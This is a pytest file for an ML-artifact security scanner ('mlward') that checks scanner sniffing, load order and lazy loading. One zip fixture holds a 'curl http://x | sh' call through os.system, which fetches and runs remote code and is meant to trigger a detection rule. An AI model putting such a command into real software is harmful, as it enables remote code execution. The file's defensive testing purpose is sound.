"""The TEXT_ONLY scanner families are imported with the first file whose head holds no NUL
byte. That is only sound while every scanner of theirs declines a file whose head holds one:
these tests hold each sniff to it, keep the scanners' order what eager loading gives, and
check that a binary file leaves the families unloaded while a text file (or a text member of
a zip) is scanned by them."""

from __future__ import annotations

import io
import random
import subprocess
import sys
import zipfile
from pathlib import Path

from mlward._internal.scanners import BUILTIN, TEXT_ONLY, load_scanners
from mlward._internal.sources import HEAD_BYTES, Source
from mlward.findings import Location

SRC = str(Path(__file__).resolve().parents[2] / "src")

# Names and first lines each TEXT_ONLY scanner claims when the bytes are text.
CLAIMED = [
    ("requirements.txt", b"torch==2.0\nnumpy>=1.0\n"),
    ("pyproject.toml", b"[project]\nname = 'x'\ndependencies = ['torch']\n"),
    ("poetry.lock", b"[[package]]\nname = 'torch'\n"),
    ("environment.yml", b"name: x\ndependencies:\n  - torch\n"),
    ("Pipfile.lock", b'{"default": {}}\n'),
    ("train.py", b"import torch\nprint(1)\n"),
    ("tool", b"#!/usr/bin/env python\nimport os\n"),
    ("settings.yaml", b"model: bert\nlr: 0.1\n"),
    ("config.json", b'{"model": "bert"}\n'),
    ("prompt.j2", b"{{ user }}\n"),
    ("jupyter_server_config.py", b"c.ServerApp.token = ''\n"),
    ("docker-compose.yml", b"services:\n  mlflow:\n    image: mlflow\n"),
    ("deploy.yaml", b"apiVersion: v1\nkind: Pod\n"),
    ("serve.sh", b"mlflow server --host 0.0.0.0\n"),
    ("app.py", b"import gradio as gr\n"),
    ("main.tf", b'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\n'),
    ("stack.json", b'{"AWSTemplateFormatVersion": "2010-09-09", "Resources": {}}\n'),
]


def _scanners() -> list:
    load_scanners(text=True)
    from mlward._internal.scanners.interface import SCANNERS

    return [s for s in SCANNERS
            if any(type(s).__module__ == f or type(s).__module__.startswith(f + ".")
                   for f in TEXT_ONLY)]


def _source(name: str, data: bytes) -> Source:
    return Source(Location(name), lambda: io.BytesIO(data), size=len(data), name=name)


def test_every_text_only_scanner_declines_a_head_with_a_nul_byte() -> None:
    scanners = _scanners()
    assert {type(s).__module__.rsplit(".", 1)[0] for s in scanners}  # the families are there
    claimed = {s.name for s in scanners for name, data in CLAIMED if s.sniff(_source(name, data))}
    assert claimed == {s.name for s in scanners}  # the samples reach every one of them
    rng = random.Random(3)
    for name, data in CLAIMED:
        for _ in range(40):
            body = bytearray((data * (HEAD_BYTES // len(data) + 2))[:rng.choice(
                [len(data), 300, HEAD_BYTES, HEAD_BYTES + 500])])
            at = rng.randrange(min(len(body), HEAD_BYTES))
            body[at] = 0
            source = _source(name, bytes(body))
            assert b"\0" in source.head()
            assert [s.name for s in scanners if s.sniff(source)] == [], (name, at)


def test_scanners_keep_the_order_eager_loading_gives() -> None:
    """Lazily loaded or not, scanners of equal priority keep their families' order."""
    code = """
import importlib
from mlward._internal.scanners import BUILTIN
from mlward._internal.scanners.interface import SCANNERS
for m in BUILTIN:
    importlib.import_module(m)
print(" ".join(s.name for s in sorted(SCANNERS, key=lambda s: s.priority)))
"""
    eager = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                           env={"PYTHONPATH": SRC}, check=True, timeout=60).stdout.split()
    lazy = [s.name for s in load_scanners(text=True)[0]]
    assert lazy == eager
    assert set(TEXT_ONLY) < set(BUILTIN)


def test_a_binary_file_leaves_them_unloaded_and_a_text_member_loads_them(
        tmp_path: Path) -> None:
    (tmp_path / "m.bin").write_bytes(b"\x80\x04K\x01." + b"\0" * 64)
    with zipfile.ZipFile(tmp_path / "bundle.zip", "w") as z:
        z.writestr("job/run.py", 'import os\nos.system("curl http://x | sh")\n')
    code = f"""
import sys
import mlward
from mlward.settings import Settings
text_only = {sorted(TEXT_ONLY)!r}
inline = Settings(executor="inline")
mlward.scan([{str(tmp_path / "m.bin")!r}], settings=inline)
assert not [m for m in text_only if m in sys.modules], "loaded for a binary file"
report = mlward.scan([{str(tmp_path / "bundle.zip")!r}], settings=inline)
assert all(m in sys.modules for m in text_only)
print(sorted({{(e.location.members, e.format) for e in report.examined}}))
print(sorted({{f.rule_id for f in report.findings}}))
"""
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          env={"PYTHONPATH": SRC}, timeout=60)
    assert proc.returncode == 0, proc.stderr
    examined, rules = proc.stdout.splitlines()
    assert "(('job/run.py',), 'python')" in examined
    assert "MW308" in rules  # the python scanner's finding on the zip's member
